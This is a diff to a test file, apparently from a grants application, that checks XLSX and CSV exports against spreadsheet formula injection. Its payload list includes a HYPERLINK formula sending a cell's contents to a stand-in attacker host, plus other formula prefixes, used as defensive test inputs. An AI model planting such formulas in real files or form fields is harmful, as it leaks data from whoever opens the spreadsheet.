@@ -5,6 +5,7 @@ applicants' text that never turns into a formula (CSV/formula injection)."""
 import csv
 import datetime
 import io
+import zipfile
 from decimal import Decimal
 
 import pytest
@@ -193,33 +194,104 @@ def test_xlsx_sheet_title_is_what_excel_allows(funding_round, title, sheet_title
 
 # --- Formula injection --------------------------------------------------------------------------
 
+#: One text per prefix a spreadsheet reads as the start of a formula (OWASP „CSV injection“).
 FORMULAS = [
-    '=HYPERLINK("http://example.com/?"&A2,"Details")',
+    '=HYPERLINK("http://evil.example/?x="&A2,"Klick")',
     "=1+1",
     "+49 681 123456",
     "-2+3",
     "@SUM(A1:A9)",
     "\t=1+1",
+    "\r=1+1",
 ]
 
 
+def hostile_application(funding_round, text):
+    """An application with `text` in every free-text field that reaches an export: the record,
+    its financing plan's lines and a text answer to a question of the round."""
+    application = make_application(
+        funding_round,
+        organisation_name=text,
+        title=text,
+        contact_name=text,
+        place=text,
+        description=text,
+        round_questions=[{"key": "ziel", "label": "Ziel", "type": "text"}],
+        round_answers={"ziel": text},
+    )
+    application.cost_lines.create(description=text, amount=Decimal("3000.00"))
+    application.income_lines.create(kind="own", description=text, amount=Decimal("1000.00"))
+    return application
+
+
 @pytest.mark.parametrize("text", FORMULAS)
-def test_applicant_text_never_becomes_a_formula_in_xlsx(funding_round, text):
-    make_application(funding_round, title=text, organisation_name=text)
-    sheet = xlsx_sheet(exports.export_queryset(funding_round))
+def test_no_cell_of_the_xlsx_is_a_formula(funding_round, text):
+    """Every sheet opened with openpyxl: no formula cell anywhere, no <f> element in the file,
+    the applicant's text unchanged as a quote-prefixed string cell; amounts stay numbers."""
+    hostile_application(funding_round, text)
+    data = exports.as_xlsx(exports.export_queryset(funding_round), "Zuschüsse", funding_round)
+    workbook = load_workbook(io.BytesIO(data))
+    hostile = 0
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
+                if cell.value == text:
+                    hostile += 1
+                    assert cell.data_type == "s"
+                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
+    # organisation, title, contact, place, description, answer; and on the plan sheet the
+    # organisation of each of the three lines and the two lines' descriptions.
+    assert hostile == 6 + 3 + 2
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
+    sheet, plan = workbook.worksheets
     header = [cell.value for cell in sheet[1]]
-    for column in ("Titel des Vorhabens", "Name der Organisation"):
-        cell = sheet.cell(row=2, column=header.index(column) + 1)
-        assert cell.data_type == "s", f"{text!r} stored as {cell.data_type}"
-        assert cell.value == text
+    requested = sheet.cell(row=2, column=header.index("Beantragter Zuschuss (EUR)") + 1)
+    assert requested.data_type == "n" and requested.value == 2000
+    assert {cell.data_type for cell in plan["G"][1:]} == {"n"}
 
 
 @pytest.mark.parametrize("text", FORMULAS)
-def test_applicant_text_never_becomes_a_formula_in_csv(funding_round, text):
+def test_no_text_cell_of_the_csv_starts_a_formula(funding_round, text):
     """A spreadsheet opening the CSV sees a leading apostrophe: the cell stays text."""
-    make_application(funding_round, title=text)
-    [record] = csv_records(exports.export_queryset(funding_round))
-    assert record["Titel des Vorhabens"] == "'" + text
+    hostile_application(funding_round, text)
+    header, *rows = csv_rows(exports.export_queryset(funding_round))
+    [row] = rows
+    for heading, cell in zip(header, row, strict=True):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (heading, cell)
+    record = dict(zip(header, row, strict=True))
+    for column in (
+        "Name der Organisation",
+        "Titel des Vorhabens",
+        "Name der Ansprechperson",
+        "Ort der Durchführung",
+        "Beschreibung",
+        "Ziel",
+    ):
+        assert record[column] == "'" + text, column
+    assert record["Beantragter Zuschuss (EUR)"] == "2000,00"
+
+
+def test_the_admin_export_is_neutralised_too(client, funding_round, clerk):
+    """The files staff download from the round's page, not only the functions behind them."""
+    hostile_application(funding_round, FORMULAS[0])
+    client.force_login(clerk)
+    xlsx = client.get(f"/admin/grants_rounds/export/{funding_round.pk}/xlsx/")
+    workbook = load_workbook(io.BytesIO(xlsx.content))
+    assert all(
+        cell.data_type != "f"
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+    )
+    response = client.get(f"/admin/grants_rounds/export/{funding_round.pk}/csv/")
+    text = response.content.decode("utf-8").removeprefix("\ufeff")
+    header, row = csv.reader(io.StringIO(text), delimiter=";")
+    assert dict(zip(header, row, strict=True))["Name der Organisation"] == "'" + FORMULAS[0]
+    assert not any(cell.startswith("=") for cell in row)
 
 
 def test_ordinary_text_and_amounts_are_left_alone(funding_round):
